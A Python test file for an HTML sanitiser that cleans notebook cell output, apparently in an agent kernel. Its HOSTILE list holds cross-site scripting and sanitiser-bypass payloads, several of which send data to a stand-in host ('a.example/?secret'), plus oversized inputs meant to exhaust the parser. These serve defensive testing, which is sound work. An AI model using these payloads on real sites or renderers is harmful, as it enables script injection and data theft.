"""Tests that the output of a draft is harmless, whatever the draft sends."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from agent_kernel.notebook.display.safe_output import INTERACTIVE, KEPT_TAGS, safe_bundle, safe_html, safe_metadata

TABLE = (
    '<table border="1" class="dataframe"><tr><th colspan="2">a</th></tr><tr><td>1</td><td>&lt;b&gt;</td></tr></table>'
)
HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://a.example/?secret'>",
    "<table background='https://a.example/?secret'><td>",
    "<td style='background:url(https://a.example)'>",
    "<style>td{background:url(https://a.example)}</style>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<form action='https://a.example'><button>ok</button></form>",
    "<meta http-equiv=refresh content='0;url=https://a.example'>",
    "<link rel=stylesheet href='https://a.example'>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml <img src=x onerror=alert(1)>?>",
    "<table><tr onclick='alert(1)' class='jp-Cell'><td tabindex=1 onfocus=alert(1) autofocus>",
    "<div><div><div></table></span><script",
    "<td class='dataframe\" onclick=\"alert(1)'>x",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<a " * 30_000,
    "<![" * 1_000,
    "<script>" * 30_000,
]


class Seen(HTMLParser):
    """Collects what a browser would find in a piece of HTML."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[tuple[str, str | None]] = set()
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= set(attrs)


def test_a_plain_table_stays_as_it_is() -> None:
    assert safe_html(TABLE) == TABLE


@pytest.mark.parametrize("hostile", HOSTILE)
def test_nothing_that_runs_or_fetches_is_left(hostile: str) -> None:
    cleaned = safe_html(f"<table><tr><td>{hostile}</td></tr></table>")
    seen = Seen(cleaned)
    assert seen.tags <= KEPT_TAGS
    assert {name for name, _ in seen.attributes} <= {"border", "colspan", "rowspan", "class"}
    assert {value for name, value in seen.attributes if name == "class"} <= {"dataframe"}


def test_only_text_pictures_and_tables_are_shown() -> None:
    shown = safe_bundle(
        {
            "text/html": f"{TABLE}<script>x()</script>",
            "image/png": "aGVsbG8=",
            "image/svg+xml": "<svg onload='x()'/>",
            "application/javascript": "x()",
            "application/vnd.vegalite.v5+json": {"data": {"url": "https://a.example/?secret"}},
            "text/markdown": "![](https://a.example/?secret) <img src=x>",
            "text/plain": "plain",
        }
    )
    assert set(shown) == {"text/html", "image/png", "text/markdown", "text/plain"}
    assert shown["text/html"] == TABLE
    assert "![" not in shown["text/markdown"]
    assert "<img" not in shown["text/markdown"]


@pytest.mark.parametrize("data", [{}, {"text/html": "<b>no table</b>"}, {"text/plain": 5}, {"image/png": b"raw"}])
def test_there_is_always_a_text(data: dict[str, object]) -> None:
    assert safe_bundle(data) == {"text/plain": INTERACTIVE}


def test_of_metadata_only_the_size_of_pictures_stays() -> None:
    given = {"image/png": {"width": 5, "height": "5;x", "unconfined": True}, "text/html": {"isolated": True}}
    assert safe_metadata(given) == {"image/png": {"width": 5}}
